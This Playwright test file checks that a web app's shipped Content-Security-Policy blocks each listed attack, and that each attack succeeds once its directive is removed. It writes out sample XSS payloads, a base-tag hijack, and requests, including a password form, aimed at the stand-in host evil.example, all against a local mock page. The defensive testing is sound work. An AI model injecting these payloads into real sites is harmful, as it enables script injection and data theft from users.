import { expect, test } from '@e2e/support/test';
import type { Page } from '@playwright/test';
import { counted } from '@scripts/reliability/tally';

const EVIL = 'https://evil.example';

declare global {
  interface Window {
    plazaGotIn?: number;
  }
}

/** One attack: what the page holds or does, and whether it got through. */
interface Attack {
  name: string;
  body?: string;
  run?: (page: Page, origin: string) => Promise<unknown>;
  /** Default: whether `window.plazaGotIn` was set. */
  got?: (page: Page, reached: readonly string[]) => Promise<boolean>;
  /** The policy without what holds it back: the attack must then succeed, or this test could not fail. */
  weakened: (policy: string) => string;
}

const without = (directive: string) => (policy: string) =>
  policy
    .split('; ')
    .filter((rule) => !rule.startsWith(directive))
    .join('; ');
const instead = (directive: string, rule: string) => (policy: string) =>
  `${without(directive)(policy)}; ${directive} ${rule}`;
const withoutTypes = (policy: string) => without('trusted-types')(without('require-trusted-types-for')(policy));
const reaches = async (_page: Page, reached: readonly string[]) => reached.length > 0;

const attacks: readonly Attack[] = [
  {
    name: 'a script written into the page',
    body: '<script>window.plazaGotIn = 1</script>',
    weakened: instead('script-src', "'unsafe-inline'"),
  },
  {
    name: 'a handler written into the page',
    body: '<img src="/x" onerror="window.plazaGotIn = 1">',
    weakened: instead('script-src', "'unsafe-inline'"),
  },
  {
    name: 'a script from elsewhere',
    body: `<script src="${EVIL}/x.js"></script>`,
    weakened: instead('script-src', 'https:'),
  },
  {
    name: 'text that is evaluated',
    run: (page) =>
      page.evaluate(async () => {
        try {
          setTimeout('window.plazaGotIn = 1', 0);
        } catch {
          // Refused.
        }
        await new Promise((done) => setTimeout(done, 20));
      }),
    weakened: (policy) => withoutTypes(instead('script-src', "'unsafe-eval' 'unsafe-inline'")(policy)),
  },
  {
    name: 'a style written into the page',
    body: '<style>body { outline: 7px solid }</style>',
    got: (page) => page.evaluate(() => getComputedStyle(document.body).outlineWidth === '7px'),
    weakened: instead('style-src', "'unsafe-inline'"),
  },
  {
    name: 'a picture that tells somebody else',
    body: `<img src="${EVIL}/p.png">`,
    got: reaches,
    weakened: instead('img-src', '*'),
  },
  {
    name: 'a request that tells somebody else',
    run: (page) => page.evaluate((host) => fetch(`${host}/x`, { mode: 'no-cors' }).catch(() => {}), EVIL),
    got: reaches,
    weakened: instead('connect-src', '*'),
  },
  {
    name: 'text that becomes HTML',
    run: (page) =>
      page.evaluate(() => {
        try {
          document.body.innerHTML = '<p>x</p>';
          window.plazaGotIn = 1;
        } catch {
          // Refused.
        }
      }),
    weakened: withoutTypes,
  },
  {
    name: 'a maker of trusted HTML under a name of its own',
    run: (page) =>
      page.evaluate(() => {
        try {
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
          ).trustedTypes.createPolicy('evil', {});
          window.plazaGotIn = 1;
        } catch {
          // Refused.
        }
      }),
    weakened: without('trusted-types'),
  },
  {
    name: 'another base for every address',
    body: `<base href="${EVIL}/"><a id="link" href="games">x</a>`,
    got: (page) => page.evaluate(() => document.querySelector<HTMLAnchorElement>('#link')?.host === 'evil.example'),
    weakened: without('base-uri'),
  },
  {
    name: 'a form that is sent elsewhere',
    body: `<form id="form" action="${EVIL}/form" method="post" target="_blank"><input name="password" value="x"></form>`,
    run: (page) => page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit()),
    got: async (page, reached) => {
      await expect.poll(() => page.evaluate(() => document.readyState)).toBe('complete');
      return reaches(page, reached);
    },
    weakened: without('form-action'),
  },
  {
    name: 'another page around ours',
    run: async (page, origin) => {
      await page.goto(`${origin}/__outer`);
      await page.frameLocator('iframe').locator('body').waitFor({ state: 'attached' });
    },
    got: (page) =>
      page
        .frameLocator('iframe')
        .locator('#ours')
        .count()
        .then((found) => found > 0),
    weakened: without('frame-ancestors'),
  },
  {
    name: 'a worker made of text',
    run: (page) =>
      page.evaluate(
        () =>
          new Promise<void>((done) => {
            try {
              const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
              worker.onmessage = () => {
                window.plazaGotIn = 1;
                done();
              };
              worker.onerror = () => done();
            } catch {
              done();
            }
          }),
      ),
    weakened: (policy) => withoutTypes(instead('worker-src', 'blob:')(policy)),
  },
];

/** A page under a policy that holds what an attacker has put there; answers what reached another host. */
async function pageUnder(page: Page, origin: string, policy: string, body: string): Promise<readonly string[]> {
  const reached: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: 'window.plazaGotIn = 1', contentType: 'text/javascript' });
  });
  const html = (inner: string) => `<!doctype html><html lang="zh"><title>x</title><body>${inner}</body></html>`;
  await page.route(`${origin}/__policy`, (route) =>
    route.fulfill({
      body: html(`<p id="ours">x</p>${body}`),
      headers: { 'content-type': 'text/html', 'content-security-policy': policy },
    }),
  );
  await page.route(`${origin}/__outer`, (route) =>
    route.fulfill({ body: html('<iframe src="/__policy"></iframe>'), contentType: 'text/html' }),
  );
  await page.goto(`${origin}/__policy`);
  return reached;
}

/** The policy the server really sends with its page. */
async function shippedPolicy(origin: string): Promise<string> {
  const answer = await fetch(`${origin}/`, { headers: { accept: 'text/html' } });
  return answer.headers.get('content-security-policy') ?? '';
}

for (const { name, body = '', run, got, weakened } of attacks) {
  test(`3.4.3: ${name}: held back by the policy that is shipped, and by nothing else`, async ({
    page,
    context,
    server,
    watch,
  }) => {
    watch.allow(/.*/);
    const policy = await shippedPolicy(server.origin);
    const gotThrough = async (under: string) => {
      const reached = await pageUnder(page, server.origin, under, body);
      await run?.(page, server.origin);
      await page.waitForLoadState('load');
      const through = await (got?.(page, reached) ?? page.evaluate(() => window.plazaGotIn === 1));
      await page.unrouteAll();
      await context.unrouteAll();
      return through;
    };
    expect(weakened(policy)).not.toBe(policy);
    expect(await gotThrough(policy)).toBe(false);
    await expect.poll(() => gotThrough(weakened(policy)), 'the attack works once its directive is gone').toBe(true);
    counted('security', 'attacks held back by the policy, each with its directive taken away as counter-test', 1);
  });
}
